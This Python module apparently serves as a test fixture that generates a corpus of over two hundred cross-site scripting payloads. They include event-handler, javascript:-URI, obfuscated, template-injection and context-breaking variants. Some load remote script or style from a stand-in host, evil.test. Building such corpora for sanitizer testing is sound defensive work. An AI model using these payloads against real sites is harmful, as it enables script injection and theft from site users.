"""Texts that would run as a program, if anything here took them for one."""

from itertools import product

MARK = "pwned()"
"""What each of them tries to call."""
_BARE = (
    "<script>{x}</script>",
    "<script src=//evil.test/{n}></script>",
    "<img src=x onerror={x}>",
    "<img src=//evil.test/{n}>",
    "<svg onload={x}>",
    "<svg><script>{x}</script></svg>",
    "<svg><animate onbegin={x} attributeName=x dur=1s>",
    "<body onload={x}>",
    "<iframe src=javascript:{x}></iframe>",
    "<iframe srcdoc='<script>parent.{x}</script>'></iframe>",
    "<object data=javascript:{x}>",
    "<embed src=javascript:{x}>",
    "<a href=javascript:{x}>click</a>",
    "<a href='java\nscript:{x}'>click</a>",
    "<math><mi xlink:href=javascript:{x}>x</mi></math>",
    "<details open ontoggle={x}>",
    "<input autofocus onfocus={x}>",
    "<video><source onerror={x}></video>",
    "<audio src onerror={x}>",
    "<marquee onstart={x}>",
    "<style>@import '//evil.test/{n}';</style>",
    "<link rel=stylesheet href=//evil.test/{n}>",
    "<meta http-equiv=refresh content='0;url=javascript:{x}'>",
    "<base href=//evil.test/>",
    "<form action=javascript:{x}><button>go</button></form>",
    "<template><img src=x onerror={x}></template>",
    "<shop-wire onclick={x}></shop-wire>",
    "<textarea autofocus onfocus={x}></textarea>",
    "<p style='background:url(//evil.test/{n})'>x</p>",
    "<img srcset='//evil.test/{n} 2x' src=x>",
    "javascript:{x}",
    "JaVaScRiPt:{x}//https://shop.example",
    "data:text/html,<script>{x}</script>",
    "vbscript:{x}",
    'https://evil.test/"onmouseover={x}//',
    "https://evil.test/<script>{x}</script>",
    "{{{{constructor.constructor('{x}')()}}}}",
    "${{{x}}}",
    "__proto__[{x}]",
    "&lt;script&gt;{x}&lt;/script&gt;",
    "&#60;img src=x onerror={x}&#62;",
)
_WRAPPED = ("{0}", '">{0}', "'>{0}", "--></title></textarea>{0}", "\u202e{0}\u2066")


def corpus() -> list[str]:
    """Return more than two hundred of them, all different."""
    return [
        wrap.format(bare.format(x=MARK, n=number))
        for number, (bare, wrap) in enumerate(product(_BARE, _WRAPPED))
    ]


def packed(room: int) -> list[str]:
    """Return all of it in lines of at most so many characters."""
    lines = [""]
    for text in corpus():
        line = text.replace("\n", " ")[:room]
        joined = f"{lines[-1]} {line}".strip()
        if len(joined) <= room:
            lines[-1] = joined
        else:
            lines.append(line)
    return lines
